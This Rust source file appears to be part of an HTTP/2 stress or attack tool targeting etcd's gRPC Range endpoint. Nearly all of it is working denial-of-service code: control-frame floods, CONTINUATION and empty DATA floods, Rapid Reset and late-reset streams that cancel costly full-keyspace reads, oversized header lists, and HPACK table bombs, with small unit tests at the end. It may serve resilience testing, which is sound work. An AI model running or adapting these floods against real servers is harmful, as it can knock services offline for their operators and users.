//! Attacks that send as much as is taken.

use super::attacker::{Stream, Tally};
use super::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEAD_BYTES, HEADERS, NEWEST,
    PAYLOAD_BYTES_MAX, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, call, frame, hello,
    literal, message, remembered, stream,
};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// Bytes that are written at once, about.
const BATCH_BYTES: usize = 16 << 10;
/// Calls that are made at once.
const CALLS: u32 = 50;
/// A list of everything, which takes the server the longest.
const RANGE: &str = "/etcdserverpb.KV/Range";
/// `RangeRequest { key: "\0", range_end: "\0" }`.
const EVERYTHING: &[u8] = b"\x0a\x01\0\x12\x01\0";
/// Acknowledges.
const ACK: u8 = 1;

/// As many of a frame as are written at once.
fn batch(frame: &[u8]) -> Vec<u8> {
    frame.repeat(BATCH_BYTES.div_ceil(frame.len()))
}

pub(super) fn settings() -> Vec<u8> {
    batch(&frame(SETTINGS, 0, 0, &[]))
}

pub(super) fn pings() -> Vec<u8> {
    batch(&frame(PING, 0, 0, b"siegewar"))
}

pub(super) fn ping_answers() -> Vec<u8> {
    batch(&frame(PING, ACK, 0, b"siegewar"))
}

pub(super) fn priorities() -> Vec<u8> {
    // Of a stream that is never opened, on the connection itself, of weight 1.
    batch(&frame(PRIORITY, 0, 9, &[0, 0, 0, 0, 0]))
}

pub(super) fn window_updates() -> Vec<u8> {
    // By nothing is an error and by more than a window holds too, so by one.
    batch(&frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
}

/// Headers that begin, and what they go on with.
pub(super) fn continuations() -> (Vec<u8>, Vec<u8>) {
    let begun = frame(HEADERS, END_STREAM, stream(0), &call(RANGE));
    (begun, batch(&frame(CONTINUATION, 0, stream(0), &[])))
}

/// A call, and a body that does not come.
pub(super) fn empty_data() -> (Vec<u8>, Vec<u8>) {
    let begun = frame(HEADERS, END_HEADERS, stream(0), &call(RANGE));
    (begun, batch(&frame(DATA, 0, stream(0), &[])))
}

/// Says hello and `begun`, then the same over and over, and reads what comes back.
pub(super) async fn repeat(tally: &Tally, connection: Stream, begun: Vec<u8>, more: Vec<u8>) {
    let first = [hello(None), begun].concat();
    flood(tally, connection, std::iter::once(first).chain(std::iter::repeat(more))).await;
}

/// Sends pieces, and reads what comes back, until the server ends the connection.
async fn flood(tally: &Tally, connection: Stream, pieces: impl Iterator<Item = Vec<u8>>) {
    let (mut read, mut write) = tokio::io::split(connection);
    let sending = tally.send(&mut write, pieces);
    let hearing = async {
        let mut heard = vec![0; 64 << 10];
        loop {
            match read.read(&mut heard).await {
                Ok(count) if count > 0 => tally.heard(has_goodbye(&heard[..count])),
                _ => return,
            }
        }
    };
    // What was said last is still to be heard when nothing is taken any more.
    tokio::pin!(hearing);
    tokio::select! {
        () = sending => hearing.await,
        () = &mut hearing => {}
    }
}

/// Sends the same without ever reading.
pub(super) async fn unread(mut connection: Stream, more: Vec<u8>) {
    if connection.write_all(&hello(None)).await.is_err() {
        return;
    }
    while connection.write_all(&more).await.is_ok() {}
}

/// Whether a GOAWAY is among frames. It may be missed where one began in an earlier read.
fn has_goodbye(mut bytes: &[u8]) -> bool {
    while let Some(head) = bytes.get(..HEAD_BYTES) {
        if head[3] == GOAWAY {
            return true;
        }
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        bytes = bytes.get(HEAD_BYTES + length..).unwrap_or_default();
    }
    false
}

/// Pieces in which each stream is used once; they end when numbers of streams do.
fn streams(mut piece: impl FnMut(u32) -> Vec<u8>) -> impl Iterator<Item = Vec<u8>> {
    let rounds = (1 << 30) / CALLS;
    (0..rounds).map(move |round| {
        let pieces = (0..CALLS).map(|number| piece(stream(CALLS * round + number)));
        // A flood that is slow to make would be a slow one.
        pieces
            .reduce(|mut all, piece| {
                all.extend_from_slice(&piece);
                all
            })
            .unwrap_or_default()
    })
}

/// Calls that are given up in the same breath.
pub(super) async fn rapid_resets(tally: &Tally, connection: Stream) {
    let block = call(RANGE);
    let pieces = streams(|stream| {
        let mut piece = frame(HEADERS, END_HEADERS, stream, &block);
        piece.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
        piece
    });
    flood(tally, connection, std::iter::once(hello(None)).chain(pieces)).await;
}

/// Calls that are given up when the server has begun with them.
pub(super) async fn late_resets(tally: &Tally, connection: Stream) {
    let (block, everything) = (call(RANGE), message(EVERYTHING));
    let mut before: Option<u32> = None;
    let pieces = streams(move |stream| {
        let mut piece = frame(HEADERS, END_HEADERS, stream, &block);
        piece.extend(frame(DATA, END_STREAM, stream, &everything));
        // The one of a round ago has been read, and most likely not been answered.
        if let Some(before) = before.replace(stream) {
            piece.extend(frame(RST_STREAM, 0, before, &CANCEL.to_be_bytes()));
        }
        piece
    });
    // Answers are not waited for: nothing of them may be sent.
    flood(tally, connection, std::iter::once(hello(Some(0))).chain(pieces)).await;
}

/// Calls with as many headers as a frame holds, on which nothing is sent.
pub(super) async fn header_lists(tally: &Tally, connection: Stream) {
    let mut block = call(RANGE);
    for n in 0_u32.. {
        let before = block.len();
        literal(&mut block, format!("x-{n}").as_bytes(), &[b'v'; 100]);
        if block.len() > PAYLOAD_BYTES_MAX {
            block.truncate(before);
            break;
        }
    }
    let pieces = streams(|stream| frame(HEADERS, END_HEADERS, stream, &block));
    flood(tally, connection, std::iter::once(hello(None)).chain(pieces)).await;
}

/// Calls whose headers are a large one, named in a byte again and again.
pub(super) async fn hpack_bombs(tally: &Tally, connection: Stream) {
    let mut first = call(RANGE);
    // The table holds 4,096 bytes.
    remembered(&mut first, b"x", &[b'v'; 4_000]);
    let hello = [hello(None), frame(HEADERS, END_HEADERS, stream(0), &first)].concat();
    let mut block = call(RANGE);
    block.extend([NEWEST; 8 << 10]);
    let pieces = streams(|stream| frame(HEADERS, END_HEADERS, stream + 2, &block));
    flood(tally, connection, std::iter::once(hello).chain(pieces)).await;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_goodbye_is_found_among_frames() {
        let mut bytes = [frame(PING, ACK, 0, &[0; 8]), frame(SETTINGS, ACK, 0, &[])].concat();
        assert!(!has_goodbye(&bytes));
        bytes.extend(frame(GOAWAY, 0, 0, &[0; 8]));
        assert!(has_goodbye(&bytes));
    }

    #[test]
    fn batches_are_whole_frames() {
        for more in [settings(), pings(), priorities(), window_updates(), continuations().1] {
            let length = HEAD_BYTES + usize::from(more[2]);
            assert_eq!(more.len() % length, 0);
            assert!(more.len() >= BATCH_BYTES);
        }
    }
}
